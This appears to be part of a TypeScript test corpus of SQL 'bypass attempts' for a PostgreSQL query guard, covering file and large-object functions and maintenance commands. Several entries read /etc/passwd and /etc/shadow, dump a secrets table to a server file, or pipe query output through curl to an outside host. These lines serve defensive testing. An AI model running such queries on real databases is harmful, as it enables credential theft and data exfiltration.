const FILES_AND_LARGE_OBJECTS: readonly CorpusEntry[] = [
  attempt('file-and-large-object', 'lo_import', "SELECT lo_import('/etc/passwd')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['lo_import'],
  }),
  attempt('file-and-large-object', 'lo_unlink', 'SELECT lo_unlink(16409)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['lo_unlink'],
  }),
  attempt('file-and-large-object', 'lo_from_bytea', "SELECT lo_from_bytea(0, 'x')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['lo_from_bytea'],
  }),
  attempt('file-and-large-object', 'lo_put', "SELECT lo_put(16409, 0, 'x')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['lo_put'],
  }),
  attempt('file-and-large-object', 'pg_read_binary_file', "SELECT pg_read_binary_file('/etc/shadow')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_read_binary_file'],
  }),
  attempt('file-and-large-object', 'pg_read_file in FROM', "SELECT * FROM pg_read_file('/etc/passwd', 0, 100)", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_read_file'],
  }),
  attempt('file-and-large-object', 'pg_ls_dir', "SELECT pg_ls_dir('.')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_ls_dir'],
  }),
  attempt('file-and-large-object', 'pg_stat_file', "SELECT pg_stat_file('postgresql.conf')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_stat_file'],
  }),
  attempt('file-and-large-object', 'COPY a query to a server file', "COPY (SELECT * FROM secrets) TO '/tmp/leak.csv'", {
    kinds: ['read', 'dangerous'],
    commands: ['COPY'],
    objects: ['secrets'],
  }),
  attempt('file-and-large-object', 'COPY a query to a program', "COPY (SELECT 1) TO PROGRAM 'curl -d @- http://example.com'", {
    kinds: ['read', 'dangerous'],
    commands: ['COPY'],
  }),
  attempt('file-and-large-object', 'COPY FROM a server file with options', "COPY orders FROM '/tmp/orders.csv' WITH (FORMAT csv, HEADER)", {
    kinds: ['write', 'dangerous'],
    commands: ['COPY'],
    objects: ['orders'],
  }),
];

const MAINTENANCE: readonly CorpusEntry[] = [
  attempt('maintenance', 'VACUUM of the whole database', 'VACUUM', { kinds: ['admin'], commands: ['VACUUM'] }),
  attempt('maintenance', 'VACUUM FULL', 'VACUUM FULL orders', { kinds: ['admin'], commands: ['VACUUM'], objects: ['orders'] }),
  attempt('maintenance', 'ANALYZE of the whole database', 'ANALYZE', { kinds: ['admin'], commands: ['ANALYZE'] }),
  attempt('maintenance', 'CLUSTER', 'CLUSTER orders USING orders_pkey', { kinds: ['admin'], commands: ['CLUSTER'], objects: ['orders'] }),
  attempt('maintenance', 'REINDEX CONCURRENTLY', 'REINDEX INDEX CONCURRENTLY orders_pkey', {
    kinds: ['admin'],
    commands: ['REINDEX'],
    objects: ['orders_pkey'],
  }),
  attempt('maintenance', 'lower-case checkpoint', 'checkpoint', { kinds: ['admin'], commands: ['CHECKPOINT'] }),
  attempt('maintenance', "COMMIT PREPARED finishes another session's work", "COMMIT PREPARED 'tx1'", {
    kinds: ['transaction', 'admin'],
    commands: ['COMMIT PREPARED'],
  }),
  attempt('maintenance', 'ROLLBACK PREPARED', "ROLLBACK PREPARED 'tx1'", {
    kinds: ['transaction', 'admin'],
    commands: ['ROLLBACK PREPARED'],
  }),
  attempt('maintenance', 'REFRESH MATERIALIZED VIEW CONCURRENTLY', 'REFRESH MATERIALIZED VIEW CONCURRENTLY daily', {
    kinds: ['write'],
    commands: ['REFRESH MATERIALIZED VIEW'],
    objects: ['daily'],
  }),
  attempt('maintenance', 'ALTER SYSTEM of standard_conforming_strings', 'ALTER SYSTEM SET standard_conforming_strings = off', {
    kinds: ['admin', 'dangerous'],
    commands: ['ALTER SYSTEM'],
  }),
];

export const BYPASS_ATTEMPTS: readonly CorpusEntry[] = [
  ...CTE_WRITES,
  ...SIDE_EFFECT_FUNCTIONS,
  ...PRIVILEGE_IN_SESSION,
  ...QUOTING_AND_CASE,
  ...MULTI_STATEMENT,
  ...EXTENDED_PROTOCOL,
  ...PREPARED_STATEMENTS,
  ...EXPLAIN_ANALYZE,
  ...DO_AND_PROCEDURES,
  ...LOCKING_AND_NOTIFY,
  ...FILES_AND_LARGE_OBJECTS,
  ...MAINTENANCE,
];
